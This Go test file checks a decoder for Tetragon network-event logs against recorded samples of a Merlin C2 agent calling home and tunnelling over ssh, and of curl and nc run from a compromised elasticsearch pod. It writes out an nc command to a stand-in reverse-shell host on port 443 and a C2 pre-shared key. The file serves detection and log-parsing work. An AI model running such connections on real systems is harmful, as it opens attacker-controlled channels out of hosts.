package tetragon

import (
	"slices"
	"strconv"
	"testing"
	"time"

	"github.com/rarenet/rarenet/services/ingest/datafeed"
	"github.com/rarenet/rarenet/services/ingest/format/internal/formattest"
)

// TestReal decodes each documentation sample: curl and nc from a compromised elasticsearch
// pod, and the Merlin C2 agent (a go-build binary) calling home and tunnelling over ssh.
func TestReal(t *testing.T) {
	tests := []struct {
		file            string
		name, exe, cwd  string
		pid, ppid       int64
		src, dst        string
		sport, dport    int
		time            string
		args0, argsLast string
		nargs           int
	}{
		{"merlin-agent-go-connect.json", "main", "/tmp/go-build3518135900/b001/exe/main", "/opt/merlin-agent/", 25744, 25687,
			"10.88.0.3", "34.116.205.187", 43374, 443, "2022-01-19T11:28:30.640Z", "/tmp/go-build3518135900/b001/exe/main", "SecurePSK!23@456", 8},
		{"merlin-agent-job-connect.json", "main", "/tmp/go-build3518135900/b001/exe/main", "/opt/merlin-agent/", 25744, 25687,
			"10.88.0.3", "34.116.205.187", 47048, 443, "2022-01-19T11:39:38.209Z", "/tmp/go-build3518135900/b001/exe/main", "SecurePSK!23@456", 8},
		// The quoted remote command stays one argument.
		{"merlin-agent-ssh-tunnel-connect.json", "ssh", "/usr/bin/ssh", "/opt/merlin-agent/", 53768, 53767,
			"10.88.0.3", "34.116.205.187", 49662, 22, "2022-01-19T12:18:59.376Z", "/usr/bin/ssh", "scp -t ~", 14},
		{"nc_process_connect.json", "nc", "/usr/bin/nc", "/usr/share/elasticsearch/", 38314, 38312,
			"10.88.0.6", "64.225.45.153", 48416, 443, "2022-02-01T18:01:56.419Z", "/usr/bin/nc", "443", 3},
		{"process_connect.json", "curl", "/usr/bin/curl", "/usr/share/elasticsearch/", 115153, 114757,
			"10.88.0.7", "142.250.180.196", 49168, 80, "2022-01-19T16:29:02.021Z", "/usr/bin/curl", "www.google.com", 2},
	}
	filter := datafeed.Default()
	for _, tt := range tests {
		t.Run(tt.file, func(t *testing.T) {
			line := realLine(t, tt.file)
			rs := formattest.Decode(t, New(), tt.file, []string{line})
			if len(rs) != 1 || rs[0].Err != nil {
				t.Fatalf("results %+v", rs)
			}
			e := rs[0].Event
			formattest.Expect(t, [][3]string{
				{"process.name", e.Process.Name, tt.name},
				{"process.executable", e.Process.Executable, tt.exe},
				{"process.working_directory", e.Process.WorkingDirectory, tt.cwd},
				{"process.pid", strconv.FormatInt(e.Process.PID, 10), strconv.FormatInt(tt.pid, 10)},
				{"process.parent.pid", strconv.FormatInt(e.Process.Parent.PID, 10), strconv.FormatInt(tt.ppid, 10)},
				{"user.id", e.User.ID, "0"},
				{"source.ip", e.Source.IP, tt.src},
				{"destination.ip", e.Destination.IP, tt.dst},
				{"source.port", strconv.Itoa(e.Source.Port), strconv.Itoa(tt.sport)},
				{"destination.port", strconv.Itoa(e.Destination.Port), strconv.Itoa(tt.dport)},
				{"network.transport", e.Network.Transport, "tcp"},
				{"network.type", e.Network.Type, "ipv4"},
				{"host.name", e.Host.Name, "minikube"},
				{"event.module", e.Event.Module, "tetragon"},
				{"event.dataset", e.Event.Dataset, "tetragon.network"},
				{"rarenet.format", e.Origin.Format, "tetragon"},
				{"args[0]", first(e.Process.Args), tt.args0},
				{"args[-1]", last(e.Process.Args), tt.argsLast},
			})
			if len(e.Process.Args) != tt.nargs {
				t.Errorf("args %q: %d, want %d", e.Process.Args, len(e.Process.Args), tt.nargs)
			}
			if want, _ := time.Parse(time.RFC3339Nano, tt.time); !e.Timestamp.Equal(want) {
				t.Errorf("@timestamp %v, want %v", e.Timestamp, want)
			}
			if !slices.Equal(e.Event.Type, []string{"connection", "start"}) || !slices.Equal(e.Event.Category, []string{"network"}) {
				t.Errorf("event.type %v event.category %v", e.Event.Type, e.Event.Category)
			}
			if reason := filter.Reason(e); reason != "" {
				t.Errorf("filtered: %s", reason)
			}
		})
	}
}

// TestRealTitle checks process.title on one sample: binary, space, the arguments as written.
func TestRealTitle(t *testing.T) {
	rs := formattest.Decode(t, New(), "nc", []string{realLine(t, "nc_process_connect.json")})
	if got, want := rs[0].Event.Process.Title, "/usr/bin/nc raiz3gjkgtfhkkc.not-reverse-shell.com 443"; got != want {
		t.Errorf("title %q, want %q", got, want)
	}
}

func first(s []string) string {
	if len(s) == 0 {
		return ""
	}
	return s[0]
}

func last(s []string) string {
	if len(s) == 0 {
		return ""
	}
	return s[len(s)-1]
}
